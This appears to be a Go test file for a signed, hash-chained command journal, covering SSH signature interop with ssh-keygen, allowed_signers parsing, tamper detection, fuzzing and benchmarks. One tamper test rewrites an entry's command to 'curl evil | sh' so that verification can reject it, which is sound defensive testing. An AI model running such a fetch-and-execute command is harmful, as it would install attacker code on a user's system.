package journal

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

func ed25519Signer(t testing.TB) ssh.Signer {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func allowedLine(principal string, k ssh.PublicKey) string {
	return principal + " " + strings.TrimSpace(string(ssh.MarshalAuthorizedKey(k)))
}

func needSSHKeygen(t *testing.T) {
	if _, err := exec.LookPath("ssh-keygen"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("ssh-keygen is needed (apt install openssh-client)")
		}
		t.Skip("ssh-keygen not installed (apt install openssh-client)")
	}
}

// TestSSHSigInteropsWithSSHKeygen: our signatures verify with OpenSSH's
// ssh-keygen -Y verify, for ed25519 and RSA keys, and ssh-keygen's
// signatures verify with ours; a changed message or namespace fails both.
func TestSSHSigInteropsWithSSHKeygen(t *testing.T) {
	needSSHKeygen(t)
	dir := t.TempDir()
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	rsaSigner, err := ssh.NewSignerFromKey(rsaKey)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("discoterm changeset v1\nseq 3\n")
	for name, signer := range map[string]ssh.Signer{"ed25519": ed25519Signer(t), "rsa": rsaSigner} {
		allowed := filepath.Join(dir, name+".allowed")
		os.WriteFile(allowed, []byte(allowedLine("alice@example.com", signer.PublicKey())+"\n"), 0o600)
		sig, err := SignSSH(signer, Namespace, msg)
		if err != nil {
			t.Fatal(err)
		}
		sigFile := filepath.Join(dir, name+".sig")
		os.WriteFile(sigFile, []byte(sig), 0o600)
		verify := func(ns, m string) error {
			cmd := exec.Command("ssh-keygen", "-Y", "verify", "-f", allowed, "-I", "alice@example.com", "-n", ns, "-s", sigFile)
			cmd.Stdin = strings.NewReader(m)
			out, err := cmd.CombinedOutput()
			if err != nil {
				return errors.New(string(out))
			}
			return nil
		}
		if err := verify(Namespace, string(msg)); err != nil {
			t.Fatalf("%s: ssh-keygen refuses our signature: %v\n%s", name, err, sig)
		}
		if verify(Namespace, string(msg)+"x") == nil || verify("git", string(msg)) == nil {
			t.Fatalf("%s: ssh-keygen accepts our signature for another message or namespace", name)
		}
	}
	// ssh-keygen signs, we verify.
	key := filepath.Join(dir, "id_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	os.WriteFile(key+".msg", msg, 0o600)
	if out, err := exec.Command("ssh-keygen", "-Y", "sign", "-f", key, "-n", Namespace, key+".msg").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	sig, _ := os.ReadFile(key + ".msg.sig")
	pub, _ := os.ReadFile(key + ".pub")
	as, err := ParseAllowedSigners("allowed", []byte(`bob@example.com namespaces="discoterm,git" `+string(pub)))
	if err != nil {
		t.Fatal(err)
	}
	s, err := as.Check(string(sig), msg, time.Now())
	if err != nil || s.Principals[0] != "bob@example.com" {
		t.Fatalf("our verifier refuses ssh-keygen's signature: %v %+v", err, s)
	}
	if _, err := as.Check(string(sig), append(msg, 'x'), time.Now()); err == nil {
		t.Fatal("a signature verified for another message")
	}
}

func TestAllowedSignersOptions(t *testing.T) {
	k := ed25519Signer(t)
	line := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(k.PublicKey())))
	sig, _ := SignSSH(k, Namespace, []byte("m"))
	now := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		file string
		ok   string // "" when it must be refused
	}{
		{"alice " + line, "alice"},
		{"# comment\n\n\"alice,bob\" " + line, "alice,bob"},
		{`alice namespaces="git" ` + line, ""},
		{`alice namespaces="disco*" ` + line, "alice"},
		{`alice valid-before="20260101Z" ` + line, ""},
		{`alice valid-after=20270101Z ` + line, ""},
		{`alice valid-after=20250101,valid-before=20270101000000Z ` + line, "alice"},
		{"bob " + strings.TrimSpace(string(ssh.MarshalAuthorizedKey(ed25519Signer(t).PublicKey()))), ""},
	} {
		as, err := ParseAllowedSigners("f", []byte(c.file))
		if err != nil {
			t.Fatalf("%q: %v", c.file, err)
		}
		s, err := as.Check(sig, []byte("m"), now)
		if (err == nil) != (c.ok != "") || err == nil && strings.Join(s.Principals, ",") != c.ok {
			t.Errorf("%q: %+v %v, want %q", c.file, s, err, c.ok)
		}
	}
	for _, bad := range []string{"alice", "alice ssh-ed25519 AAAAnotbase64", `alice cert-authority ` + line, `alice frobnicate ` + line, `alice valid-before=tomorrow ` + line} {
		if _, err := ParseAllowedSigners("f", []byte(bad)); err == nil || !strings.Contains(err.Error(), "f:1:") {
			t.Errorf("%q: %v, want an error naming f:1", bad, err)
		}
	}
}

// signedJournal is a journal of two changesets, each signed by s.
func signedJournal(t *testing.T, s ssh.Signer) []Entry {
	t.Helper()
	var es []Entry
	var prev *Entry
	for i, cs := range []uint64{1, 1, 3} {
		e := Seal(prev, Entry{Kind: KindExec, Command: "true", Changeset: cs, Author: "alice", Message: "m", Time: time.Unix(int64(i), 0)})
		es = append(es, e)
		prev = &es[len(es)-1]
	}
	for _, i := range []int{1, 2} {
		if err := SignChangeset(s, &es[i], "alice"); err != nil {
			t.Fatal(err)
		}
	}
	return es
}

// TestJournalSignatures: a journal whose changesets are signed by an
// allowed key verifies; one rewritten with a valid hash chain but by
// someone without an allowed key is refused, naming the first bad seq.
func TestJournalSignatures(t *testing.T) {
	alice, mallory := ed25519Signer(t), ed25519Signer(t)
	as, err := ParseAllowedSigners("allowed_signers", []byte(allowedLine("alice@example.com", alice.PublicKey())))
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	es := signedJournal(t, alice)
	if err := Verify("main", es, es[2].Hash); err != nil {
		t.Fatal(err)
	}
	signers, err := VerifySignatures("main", es, as, now)
	if err != nil || len(signers) != 2 || signers[2].Principals[0] != "alice@example.com" {
		t.Fatalf("signed journal: %v %+v", err, signers)
	}
	// Rewritten: seq 3's command changed and the chain re-sealed, signed by
	// a key that is not allowed, or not signed at all.
	for name, resign := range map[string]func(*Entry){
		"unsigned":           func(e *Entry) { e.Signature = "" },
		"signed by mallory":  func(e *Entry) { SignChangeset(mallory, e, "alice") },
		"old signature kept": func(*Entry) {},
	} {
		bad := append([]Entry(nil), es...)
		sig := bad[2].Signature
		bad[2] = Seal(&bad[1], Entry{Kind: KindExec, Command: "curl evil | sh", Changeset: 3, Author: "alice", Message: "m", Time: bad[2].Time})
		bad[2].Signature = sig
		resign(&bad[2])
		if err := Verify("main", bad, bad[2].Hash); err != nil {
			t.Fatalf("%s: the rewritten chain should be valid: %v", name, err)
		}
		_, err := VerifySignatures("main", bad, as, now)
		var se *SignatureError
		if !errors.As(err, &se) || se.Seq != 3 || !errors.Is(err, ErrChain) || !strings.Contains(err.Error(), "seq 3") {
			t.Errorf("%s: %v, want a signature error at seq 3", name, err)
		}
	}
	// An unsigned entry appended after the signed ones.
	more := append(append([]Entry(nil), es...), Seal(&es[2], Entry{Kind: KindExec, Command: "id", Changeset: 4, Author: "m", Time: now}))
	if _, err := VerifySignatures("main", more, as, now); err == nil || !strings.Contains(err.Error(), "seq 4: no signature") {
		t.Errorf("appended unsigned entry: %v", err)
	}
}

func FuzzParseSSHSignature(f *testing.F) {
	s := ed25519Signer(f)
	sig, _ := SignSSH(s, Namespace, []byte("m"))
	f.Add(sig)
	f.Add(armorBegin + "\nU1NIU0lH\n" + armorEnd)
	f.Add("")
	f.Fuzz(func(t *testing.T, in string) {
		if p, err := ParseSSHSignature(in); err == nil {
			p.Verify(Namespace, []byte("m")) // must not panic
		}
	})
}

func FuzzParseAllowedSigners(f *testing.F) {
	f.Add(allowedLine("alice", ed25519Signer(f).PublicKey()))
	f.Add(`"a b",c namespaces="x,y",valid-after=20250101 ssh-ed25519 AAAA`)
	f.Fuzz(func(t *testing.T, in string) {
		ParseAllowedSigners("f", []byte(in)) // must not panic
	})
}

// BenchmarkVerifySignatures: the cost signatures add to loading a journal
// of 1,000 changesets, first load (every signature checked) and after
// (remembered by the AllowedSigners).
func BenchmarkVerifySignatures(b *testing.B) {
	s := ed25519Signer(b)
	var es []Entry
	var prev *Entry
	for i := 0; i < 1000; i++ {
		e := Seal(prev, Entry{Kind: KindExec, Command: "true", Changeset: uint64(i + 1), Author: "alice", Message: "m", Time: time.Unix(int64(i), 0)})
		if err := SignChangeset(s, &e, "alice"); err != nil {
			b.Fatal(err)
		}
		es = append(es, e)
		prev = &es[len(es)-1]
	}
	line := allowedLine("alice", s.PublicKey())
	b.Run("first", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			as, _ := ParseAllowedSigners("a", []byte(line))
			if _, err := VerifySignatures("main", es, as, time.Now()); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("remembered", func(b *testing.B) {
		as, _ := ParseAllowedSigners("a", []byte(line))
		VerifySignatures("main", es, as, time.Now())
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := VerifySignatures("main", es, as, time.Now()); err != nil {
				b.Fatal(err)
			}
		}
	})
}
